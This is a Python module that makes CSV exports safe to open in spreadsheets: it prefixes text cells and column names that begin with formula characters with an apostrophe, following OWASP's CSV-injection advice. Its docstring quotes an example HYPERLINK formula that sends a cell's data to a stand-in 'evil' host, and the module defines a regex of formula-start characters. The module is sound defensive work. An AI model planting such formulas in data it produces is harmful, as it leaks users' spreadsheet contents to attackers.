"""CSV files that people open in a spreadsheet (review_queue.csv) without running formulas.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab, carriage return or line feed,
which some spreadsheets skip before looking for one) is read by Excel, LibreOffice and Google
Sheets as a formula: `=HYPERLINK("http://evil/?"&A2, "click")` in a customer's name field
would run on the steward's machine. Such cells get a leading apostrophe, which spreadsheets
show as plain text and hide; this is OWASP's recommended neutralization for CSV injection.
Numbers stay numbers: only text cells are touched, so a negative amount is still a number.
"""

from __future__ import annotations

import io

import polars as pl

# The full-width forms are read as formula signs by some spreadsheet locales too.
_FORMULA_CHARS = "=+-@\t\r\n＝＋－＠"
FORMULA_START = r"^[=+\-@\t\r\n＝＋－＠]"


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell (and column name) that could start a formula quoted."""
    # Series, not pl.col(name): a column called "*" or "^a.*$" would be read as a pattern.
    columns = [_neutralize(s) if s.dtype == pl.String else s for s in frame.get_columns()]
    return pl.DataFrame([s.alias(_safe_name(s.name)) for s in columns])


def _neutralize(cells: pl.Series) -> pl.Series:
    # Series string methods select the series by name internally: work on a plain name
    text = cells.alias("cell")
    risky = text.str.contains(FORMULA_START).fill_null(False)
    return ("'" + text).zip_with(risky, text).alias(cells.name)


def csv_for_people(frame: pl.DataFrame) -> bytes:
    """`frame` as a spreadsheet-safe CSV: neutralized cells, UTF-8 with a BOM.

    Lists (such as quarantine reasons) are joined with "; " so the file has one value per
    cell.
    """
    flat = pl.DataFrame(
        [_joined(s) if isinstance(s.dtype, pl.List) else s for s in frame.get_columns()]
    )
    buffer = io.BytesIO()
    # The BOM makes Excel read the file as UTF-8, so accented names survive.
    spreadsheet_safe(flat).write_csv(buffer, include_bom=True)
    return buffer.getvalue()


def _safe_name(name: str) -> str:
    return "'" + name if name and name[0] in _FORMULA_CHARS else name


def _joined(cells: pl.Series) -> pl.Series:
    return cells.alias("cell").cast(pl.List(pl.String)).list.join("; ").alias(cells.name)
